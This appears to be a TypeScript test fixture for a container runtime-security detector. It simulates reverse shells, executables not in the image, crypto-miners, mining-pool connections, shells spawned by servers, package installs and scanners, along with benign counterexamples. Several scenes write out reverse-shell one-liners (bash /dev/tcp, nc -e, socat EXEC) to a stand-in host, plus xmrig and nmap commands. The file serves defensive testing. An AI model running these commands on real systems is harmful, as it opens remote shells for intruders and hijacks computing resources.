// SPDX-License-Identifier: Apache-2.0
import { ContainerBuilder, connectTcp, type Endpoint, wireToConnection } from "@vendorless/builders";
import { inside, onHost, type Scene } from "./scene.ts";

const REVERSE = "Reverse shell";
const DRIFT = "Program the image does not hold was run";
const MINER = "Crypto-miner started";
const POOL = "Connection to a port of mining pools";
const SERVER = "Server program spawned a shell in a container";
const INTERACTIVE = "Interactive shell in a container";
const INSTALLED = "Package manager run in a container";
const TOOL = "Network tool run in a container";

const HERE: Endpoint = ["172.17.0.2", 41_000];
const STRANGER: Endpoint = ["203.0.113.7", 4444];

const app = (): ContainerBuilder => new ContainerBuilder("shop/app:3", { comm: "app", uid: 33 });
const server =
  (comm: string, args: string[] = []) =>
  (): ContainerBuilder =>
    new ContainerBuilder("shop/app:3", { comm, args, uid: 33 });

/** A program that the container's main process starts. */
const runs = (exe: string, args: string[] = [], more = {}) =>
  inside(app, ({ main }) => void main.spawn({ exe, args, ...more }));

export const execution: readonly Scene[] = [
  {
    name: "a program wires a shell to a connection",
    rule: REVERSE,
    shows: [
      "command=sh -i ",
      "input=172.17.0.2:41000->203.0.113.7:4444 ",
      "output=172.17.0.2:41000->203.0.113.7:4444 ",
      "parent=python3",
      "container=app",
      "id=617070000000",
    ],
    capture: inside(server("python3"), ({ main }) => {
      wireToConnection(main, HERE, STRANGER);
      main.spawn({ exe: "/bin/sh", args: ["-i"] });
    }),
  },
  {
    name: "on the host, too",
    rule: REVERSE,
    shows: ["command=bash ", "id=host"],
    capture: onHost((capture) => {
      const perl = capture.process({ comm: "perl" });
      wireToConnection(perl, HERE, STRANGER);
      perl.spawn({ exe: "/bin/bash" });
    }),
  },
  {
    name: "bash is told to connect",
    rule: REVERSE,
    shows: ["/dev/tcp/203.0.113.7/4444"],
    capture: runs("/bin/bash", ["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]),
  },
  {
    name: "netcat hands out a shell",
    rule: REVERSE,
    shows: ["command=nc 203.0.113.7 4444 -e /bin/sh "],
    capture: runs("/bin/nc", ["203.0.113.7", "4444", "-e", "/bin/sh"]),
  },
  {
    name: "socat hands out a shell",
    rule: REVERSE,
    shows: ["command=socat TCP:203.0.113.7:4444 EXEC:/bin/bash"],
    capture: runs("/usr/bin/socat", ["TCP:203.0.113.7:4444", "EXEC:/bin/bash"]),
  },
  {
    name: "a health check by bash's own connection",
    rule: REVERSE,
    capture: runs("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET /health' >&3; cat <&3"]),
  },
  {
    name: "a shell of PHP-FPM, whose standard input is the socket it listens on",
    rule: REVERSE,
    after: [SERVER],
    capture: inside(server("php-fpm"), ({ main }) => {
      const addr = Buffer.from([2, 0, 0, 0, 0, 0x28, 0x23]);
      main
        .event("socket", { fd: 0, domain: "AF_INET", type: 1, proto: 6 })
        .event("bind", { res: 0, addr, fd: 0 })
        .spawn({ exe: "/bin/sh", args: ["-c", "convert a b"] });
    }),
  },
  {
    name: "a program from the writable layer",
    rule: DRIFT,
    shows: ["path=/tmp/x ", "in_memory=false", "container=app", "parent=app"],
    capture: runs("/tmp/x", [], { exeUpperLayer: true }),
  },
  {
    name: "a program from memory",
    rule: DRIFT,
    shows: ["path=memfd:x ", "in_memory=true"],
    capture: runs("/proc/self/fd/3", [], { exePath: "memfd:x", exeFromMemfd: true }),
  },
  { name: "a program of the image", rule: DRIFT, capture: runs("/usr/bin/app", [], { exeLowerLayer: true }) },
  {
    name: "runc's copy of itself",
    rule: DRIFT,
    capture: inside(app, (container) => {
      const exePath = "memfd:runc_cloned:/proc/self/exe";
      container.start({ exe: "/proc/self/exe", args: ["init"], exePath, exeFromMemfd: true });
    }),
  },
  {
    name: "a miner by its name",
    rule: MINER,
    shows: ["command=xmrig -o pool.example:443 ", "path=/tmp/xmrig", "container=app"],
    capture: runs("/tmp/xmrig", ["-o", "pool.example:443"]),
  },
  {
    name: "a miner by what it is told",
    rule: MINER,
    shows: ["command=kworker -o stratum+tcp://pool.example:80"],
    capture: runs("/tmp/kworker", ["-o", "stratum+tcp://pool.example:80"]),
  },
  {
    name: "a miner on the host",
    rule: MINER,
    shows: ["id=host"],
    capture: onHost((capture) => void capture.process({ comm: "sh" }).spawn({ exe: "/tmp/kinsing" })),
  },
  { name: "a program that is no miner", rule: MINER, capture: runs("/usr/bin/minify", ["--all"]) },
  {
    name: "a connection to a pool",
    rule: POOL,
    shows: ["connection=172.17.0.2:41000->203.0.113.7:3333 ", "program=app", "container=app"],
    capture: inside(app, ({ main }) => connectTcp(main, HERE, ["203.0.113.7", 3333])),
  },
  {
    name: "a service of one's own on the same port",
    rule: POOL,
    capture: inside(app, ({ main }) => connectTcp(main, HERE, ["10.0.0.7", 3333])),
  },
  {
    name: "a shell below a web server",
    rule: SERVER,
    shows: ["command=sh -c id ", "parent=apache2", "user=www-data", "container=app"],
    capture: inside(server("apache2"), ({ main }) => void main.spawn({ exe: "/bin/sh", args: ["-c", "id"] })),
  },
  {
    name: "a shell below a Java server",
    rule: SERVER,
    shows: ["command=bash -c id ", "parent=java"],
    capture: inside(server("java"), ({ main }) => void main.spawn({ exe: "/bin/bash", args: ["-c", "id"] })),
  },
  {
    name: "npm starts a program through a shell",
    rule: SERVER,
    capture: inside(
      server("node", ["/usr/local/bin/npm", "start"]),
      ({ main }) => void main.spawn({ exe: "/bin/sh", args: ["-c", "node server.js"] }),
    ),
  },
  {
    name: "a Java server starts a program that is no shell",
    rule: SERVER,
    capture: inside(server("java"), ({ main }) => void main.spawn({ exe: "/usr/bin/convert" })),
  },
  {
    name: "docker exec -it",
    rule: INTERACTIVE,
    shows: [
      "command=bash ",
      "terminal=34816",
      "parent=runc",
      "user=root",
      "container=redis",
      "id=726564697300",
    ],
    capture: inside(
      () => new ContainerBuilder("redis:7", { comm: "redis-server", uid: 999 }),
      (container) => {
        const shell = container.start({ exe: "/bin/bash", tty: 34_816 });
        shell.spawn({ exe: "/bin/ls" });
        shell.spawn({ exe: "/bin/sh", args: ["-c", "true"] });
      },
    ),
  },
  {
    name: "a container with a terminal starts by its script",
    rule: INTERACTIVE,
    capture: inside(app, (container) => {
      container.start({ exe: "/docker-entrypoint.sh", exePath: "/bin/bash", tty: 34_816 });
    }),
  },
  {
    name: "docker exec without a terminal",
    rule: INTERACTIVE,
    capture: inside(app, (container) => void container.start({ exe: "/bin/sh", args: ["-c", "true"] })),
  },
  {
    name: "apt-get install, and what it starts",
    rule: INSTALLED,
    shows: ["command=apt-get install -y curl ", "path=/usr/bin/apt-get", "container=app"],
    capture: inside(app, (container) => {
      const apt = container.start({ exe: "/usr/bin/apt-get", args: ["install", "-y", "curl"] });
      apt.spawn({ exe: "/usr/bin/dpkg", args: ["--unpack", "/var/cache/apt/archives/curl.deb"] });
    }),
  },
  ...(
    [
      ["/sbin/apk", "add", "curl"],
      ["/usr/local/bin/pip", "install", "requests"],
      ["/usr/bin/python3", "-m", "pip", "install", "requests"],
      ["/usr/local/bin/npm", "ci"],
      ["/usr/local/bin/npm", "i", "left-pad"],
      ["/usr/bin/dpkg", "-i", "/tmp/x.deb"],
      ["/usr/bin/rpm", "-Uvh", "x.rpm"],
    ] as const
  ).map(([exe, ...args]) => ({
    name: [exe, ...args].join(" "),
    rule: INSTALLED,
    shows: [args.join(" ")],
    capture: runs(exe, args),
  })),
  ...(
    [
      ["/usr/local/bin/npm", "start"],
      ["/usr/bin/dpkg", "--print-architecture"],
      ["/usr/bin/rpm", "-qi", "bash"],
      ["/sbin/apk", "manifest", "nginx"],
      ["/usr/local/bin/pip", "list"],
    ] as const
  ).map(([exe, ...args]) => ({
    name: [exe, ...args].join(" "),
    rule: INSTALLED,
    capture: runs(exe, args),
  })),
  {
    name: "a scanner",
    rule: TOOL,
    shows: ["command=nmap -sS 10.0.0.0/8 ", "container=app"],
    capture: runs("/usr/bin/nmap", ["-sS", "10.0.0.0/8"]),
  },
  {
    name: "netcat listens",
    rule: TOOL,
    shows: ["command=nc -lvp 4444 "],
    capture: runs("/bin/nc", ["-lvp", "4444"]),
  },
  { name: "netcat asks whether a port is open", rule: TOOL, capture: runs("/bin/nc", ["-vz", "db", "5432"]) },
];
